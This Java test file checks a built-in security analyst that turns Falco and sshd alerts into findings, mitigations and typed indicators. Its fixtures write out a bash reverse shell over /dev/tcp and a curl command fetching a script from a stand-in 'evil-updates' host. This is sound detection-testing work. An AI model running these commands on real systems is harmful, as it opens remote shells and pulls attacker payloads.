package io.winnow.analyst.builtin;

import io.winnow.Alerts;
import io.winnow.alert.Alert;
import io.winnow.alert.Entity;
import io.winnow.alert.EntityType;
import io.winnow.alert.Finding;
import io.winnow.attack.AttackCatalog;
import io.winnow.mask.RegexMasker;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;

/** What the analyst writes: specific to the technique and to the alert's own entities; typed indicators. */
class BuiltinAnalystWordsTest {
    private static final AttackCatalog CATALOG = AttackCatalog.bundled();
    private final BuiltinAnalyst analyst = new BuiltinAnalyst(CATALOG);
    private final RegexMasker masker = new RegexMasker();

    private Finding analyse(Alert alert) {
        return analyst.analyse(masker.mask(alert).alert());
    }

    private static Alert reverseShell(String id, String process, String user, String address) {
        return Alerts.falco(id, "Reverse shell", "Reverse shell (command=" + process + " -c 'bash -i >& /dev/tcp/"
                        + address + "/443 0>&1')", List.of(),
                List.of(new Entity(EntityType.PROCESS, process, "proc.name"),
                        new Entity(EntityType.USER, user, "user.name"),
                        new Entity(EntityType.COMMAND_LINE, process + " -c 'bash -i >& /dev/tcp/" + address
                                + "/443 0>&1'", "proc.cmdline"),
                        new Entity(EntityType.DESTINATION_IP, address, "fd.sip")));
    }

    @Test
    void namesTheAlertsOwnProcessUserAndAddressInWhatToDo() {
        Finding f = analyse(reverseShell("A", "bash", "www-data", "203.0.113.9"));

        String advice = String.join("\n", f.mitigations().immediate()) + "\n" + String.join("\n", f.nextSteps());
        // the host reaches the analyst masked, and the words name its token (grounding restores the name)
        assertThat(advice).contains("bash").contains("www-data").contains("[EXTERNAL-IP-1]").contains("[HOST-1]");
        assertThat(f.attackVector()).contains("T1059.004").contains("reverse shell");
        assertThat(f.summary()).contains("bash").contains("www-data");
        assertThat(f.mitigations().shortTerm()).isNotEmpty();
        assertThat(f.mitigations().longTerm()).isNotEmpty();
    }

    @Test
    void twoAlertsOfTheSameTechniqueReadDifferently() {
        Finding first = analyse(reverseShell("A", "bash", "www-data", "203.0.113.9"));
        Finding second = analyse(reverseShell("B", "sh", "nobody", "198.51.100.7"));

        assertThat(first.techniques().getFirst().id()).isEqualTo(second.techniques().getFirst().id());
        assertThat(first.mitigations().immediate()).isNotEqualTo(second.mitigations().immediate());
        assertThat(first.summary()).isNotEqualTo(second.summary());
    }

    @Test
    void differentTechniquesGetDifferentGuidance() {
        Finding shell = analyse(reverseShell("A", "bash", "www-data", "203.0.113.9"));
        Finding brute = analyse(Alerts.raw("B", "sshd[811]: Failed password for invalid user oracle from "
                + "198.51.100.23 port 40022 ssh2"));

        assertThat(shell.mitigations().longTerm()).doesNotContainAnyElementsOf(brute.mitigations().longTerm());
        assertThat(brute.mitigations().immediate()).anySatisfy(a -> assertThat(a).contains("[EXTERNAL-IP-1]"));
    }

    @Test
    void typesTheIndicatorsItFinds() {
        // given
        Alert alert = Alerts.falco("A", "Suspicious download", "curl fetched a payload (command=curl -o "
                        + "/tmp/x http://evil-updates.example.com/p.sh) sha256=" + "ab".repeat(32)
                        + " exploit CVE-2021-44228 from 10.0.0.5", List.of(),
                List.of(new Entity(EntityType.COMMAND_LINE, "curl -o /tmp/x http://evil-updates.example.com/p.sh",
                                "proc.cmdline"),
                        new Entity(EntityType.SOURCE_IP, "10.0.0.5", "fd.cip"),
                        new Entity(EntityType.DESTINATION_IP, "203.0.113.9", "fd.sip"),
                        new Entity(EntityType.DESTINATION_PORT, "80", "fd.sport"),
                        new Entity(EntityType.CONTAINER_IMAGE, "docker.io/library/nginx:1.25", "container.image"),
                        new Entity(EntityType.REGISTRY_KEY, "HKLM\\Software\\X", "targetObject")));

        // when
        Map<String, List<String>> byType = analyse(alert).iocs().stream().collect(Collectors.groupingBy(
                Finding.IocClaim::type, Collectors.mapping(Finding.IocClaim::value, Collectors.toList())));

        // then
        assertThat(byType.get("ip")).contains("[INTERNAL-IP-1]", "[EXTERNAL-IP-1]");
        // host names reach the analyst as tokens; grounding restores and checks them against the alert
        assertThat(byType.get("url")).anySatisfy(u -> assertThat(u).matches("http://\\[HOST-\\d+]/p\\.sh"));
        assertThat(byType.get("domain")).anySatisfy(d -> assertThat(d).matches("\\[HOST-\\d+]"));
        assertThat(byType.get("sha256")).contains("ab".repeat(32));
        assertThat(byType.get("cve")).contains("CVE-2021-44228");
        assertThat(byType.get("file_path")).contains("/tmp/x");
        assertThat(byType.get("command_line")).isNotEmpty();
        assertThat(byType.get("port")).contains("80");
        assertThat(byType.get("container_image")).contains("docker.io/library/nginx:1.25");
        assertThat(byType.get("registry_key")).contains("HKLM\\Software\\X");
        assertThat(analyse(alert).iocs()).filteredOn(i -> i.value().equals("[EXTERNAL-IP-1]"))
                .allSatisfy(i -> assertThat(i.context()).contains("external"));
    }
}
